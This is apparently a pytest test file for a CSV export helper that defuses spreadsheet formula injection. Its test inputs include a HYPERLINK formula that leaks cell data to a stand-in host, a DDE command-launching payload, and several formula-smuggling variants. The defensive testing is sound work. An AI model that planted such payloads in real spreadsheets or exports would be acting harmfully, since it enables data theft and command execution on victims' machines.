"""CSV that spreadsheets show and never run."""

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.csv_text import FORMULA_SIGNS, csv_line


def read(line):
    return next(csv.reader(io.StringIO(line, newline="")))


@pytest.mark.parametrize(
    "evil",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        " =1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_what_would_run_begins_with_an_apostrophe(evil):
    [cell] = read(csv_line([evil]))
    assert cell.startswith("'")
    assert cell.replace("'", "") == evil.replace("'", "")


def test_numbers_moments_and_nothing_stay_what_they_are():
    moment = datetime(2026, 11, 21, 7, 0, tzinfo=UTC)
    assert read(csv_line([-5, 1.5, True, None, moment, "a,b", 'say "so"'])) == [
        "-5",
        "1.5",
        "True",
        "",
        "2026-11-21T07:00:00+00:00",
        "a,b",
        'say "so"',
    ]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")), min_size=1, max_size=5))
def test_every_text_comes_back_and_none_is_a_formula(texts):
    cells = read(csv_line(texts))
    for cell, text in zip(cells, texts, strict=True):
        assert cell.replace("'", "") == text.replace("'", "")
        assert not cell.lstrip(" ").startswith(FORMULA_SIGNS)


@pytest.mark.parametrize("text", ["x;=1+1;", "Mozilla; +1", "a;\t=1", "a\n=1", 'a;"=1"', "a; @x", "a;＝1"])
def test_nothing_runs_either_where_semicolons_separate(text):
    [cell] = read(csv_line([text]))
    assert not re.search(r'[;\t\r\n][ "]*[=+@＝-]', cell)
